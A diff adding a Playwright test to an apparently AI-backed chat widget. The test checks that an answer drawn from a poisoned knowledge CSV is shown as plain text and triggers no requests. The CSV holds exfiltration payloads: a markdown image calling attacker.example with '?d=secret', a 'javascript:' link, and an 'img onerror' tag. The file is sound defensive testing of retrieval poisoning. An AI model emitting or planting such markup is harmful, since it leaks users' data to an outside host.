@@ -13,6 +13,7 @@ import pytest
 from playwright.async_api import Browser, ConsoleMessage, Page, async_playwright, expect
 
 from parlour.demo import prepare_demo_organisation
+from parlour.services import Services
 from parlour_demo_client.app import create_demo_client
 from tests.conftest import Stack
 from tests.support.seed import ACTOR
@@ -55,6 +56,8 @@ async def browser() -> AsyncIterator[Browser]:
 class Demo:
     page: Page
     console_errors: list[str]
+    services: Services
+    tenant_id: str
 
 
 @pytest.fixture
@@ -80,7 +83,7 @@ async def demo(stack: Stack, browser: Browser) -> AsyncIterator[Demo]:
     page.on("console", on_console)
     page.on("pageerror", lambda error: errors.append(str(error)))
     await page.goto(client_url)
-    yield Demo(page, errors)
+    yield Demo(page, errors, stack.services, organisation.tenant_id)
     await page.close()
     client_server.stop()
 
@@ -128,6 +131,37 @@ async def test_markup_in_messages_is_shown_as_text_never_run(demo: Demo) -> None
     await ask(page, payload)
     await expect(page.locator(".msg.user")).to_have_text(payload, timeout=WAIT_MS)
     await expect(page.locator(".msg.assistant")).to_have_count(1, timeout=WAIT_MS)
+    assert await page.evaluate("window.__pwned") is None
+
+
+async def test_an_answer_carrying_exfiltration_markup_shows_text_and_fetches_nothing(
+    demo: Demo,
+) -> None:
+    """T-70: an answer with a markdown image, a script link and an <img onerror> (here from
+    planted knowledge, which the extractive answer repeats word for word) is streamed and shown
+    as plain text; the browser makes no request to the attacker's host."""
+    attack = (
+        "question,answer\n"
+        'What is the cashback rate?,"Cashback is 2% on groceries and 1% on everything else, '
+        "paid monthly. ![chart](https://attacker.example/c.png?d=secret) "
+        '[Details](javascript:fetch(1)) <img src=https://attacker.example/i onerror=alert(1)>"\n'
+    )
+    await demo.services.knowledge.upload(demo.tenant_id, "offers.csv", attack.encode(), actor=ACTOR)
+    requested: list[str] = []
+    demo.page.on("request", lambda request: requested.append(request.url))
+    page = demo.page
+    await page.get_by_role("button", name="Open chat").click()
+    await ask(page, "What is the cashback rate?")
+    answer = page.locator(".msg.assistant").last
+    await expect(answer).to_contain_text("Cashback is 2%", timeout=WAIT_MS)
+    await expect(page.locator(".msg.assistant")).to_have_count(1)  # the stream was replaced
+    text = await answer.inner_text()
+    assert "attacker.example" not in text
+    assert "javascript:" not in text
+    assert "chart" in text
+    assert "Details" in text
+    assert await answer.locator("img, a").count() == 0
+    assert not [url for url in requested if "attacker.example" in url]
     assert await page.evaluate("window.__pwned") is None
 
 
